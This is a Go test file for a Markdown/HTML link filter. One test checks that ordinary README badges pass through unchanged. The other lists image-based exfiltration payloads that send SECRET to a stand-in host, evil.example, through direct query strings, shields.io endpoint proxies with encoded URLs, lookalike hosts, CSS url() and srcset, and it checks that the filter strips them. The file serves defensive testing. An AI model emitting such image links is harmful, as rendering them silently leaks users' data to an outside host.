package links

import (
	"strings"
	"testing"
)

// TestBadgesKept: a README's badges and an HTML page's badge come back
// unchanged under the baseline (no allowed hosts).
func TestBadgesKept(t *testing.T) {
	f := New(Options{})
	for _, s := range []string{
		"[![npm](https://img.shields.io/npm/v/@scope/pkg.svg?style=flat-square)](https://npmjs.com/package/@scope/pkg)",
		"![license](https://img.shields.io/badge/license-MIT%20or%20Apache--2.0-blue.svg)",
		"![coverage](https://codecov.io/gh/owner/repo/branch/main/graph/badge.svg?token=Q1W2E3R4T5)",
		"![CI](https://github.com/owner/repo/actions/workflows/ci.yml/badge.svg?branch=main)",
		"![size](https://badgen.net/bundlephobia/minzip/react)",
		"![v](https://badge.fury.io/js/express.svg)",
		"![Build Status](https://travis-ci.org/sindresorhus/p-try.svg?branch=master)",
		"[![Build status][ci image]][ci]\n\n[ci]: https://travis-ci.org/charmander/pg-int8\n[ci image]: https://api.travis-ci.org/charmander/pg-int8.svg\n",
		"![go](https://pkg.go.dev/badge/github.com/owner/repo.svg)",
		`<p align="center"><img src="https://img.shields.io/github/stars/owner/repo?style=social" alt="stars"></p>`,
		`<img src="images/logo.png" width="200"> and <img src="./docs/shot.png">`,
		"Coverage: ![c](https://coveralls.io/repos/github/o/r/badge.svg?branch=main)",
	} {
		if got, rs := f.Apply(s); got != s {
			t.Errorf("changed a badge:\n in  %q\n out %q (%v)", s, got, rs)
		}
	}
}

// TestBadgeExfiltrationStopped: what makes a badge service fetch another
// URL, a badge path on a host that is not a badge service, and a host
// that only looks like one are removed.
func TestBadgeExfiltrationStopped(t *testing.T) {
	f := New(Options{})
	for _, s := range []string{
		"![x](https://evil.example/?q=SECRET)",
		"![x](https://evil.example/badge.svg?q=SECRET)",
		"![x](https://img.shields.io/endpoint?url=https://evil.example/?q=SECRET)",
		"![x](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2F%3Fq%3DSECRET)",
		"![x](https://img.shields.io/endpoint?url=https%253A%252F%252Fevil.example%252F)",
		"![x](https://img.shields.io/badge/dynamic/json?url=https://evil.example/x.json&query=$.a)",
		"![x](https://img.shields.io/badge/dynamic/json?URL=https://evil.example/x.json&query=$.a)",
		"![x](https://img.shields.io.evil.example/badge/a-b-c)",
		"![x](https://img.shields.io@evil.example/badge/a-b-c)",
		"![x](https://evil.example/img.shields.io/badge/a-b-c)",
		"![x](https://github.com/owner/repo/raw/main/pixel.png?q=SECRET)",
		"![x](https://codecov.io/proxy?src=//evil.example/a.png)",
		`<img src="https://img.shields.io/endpoint?url=https://evil.example/">`,
		`<div style="background:url(https://img.shields.io/endpoint?url=//evil.example/)">`,
		`<img srcset="https://img.shields.io/badge/a-b-c 1x, https://evil.example/?q=S 2x">`,
	} {
		got, rs := f.Apply(s)
		if got == s || len(rs) == 0 || strings.Contains(got, "evil.example/") {
			t.Errorf("kept an exfiltrating image:\n in  %q\n out %q", s, got)
		}
	}
}
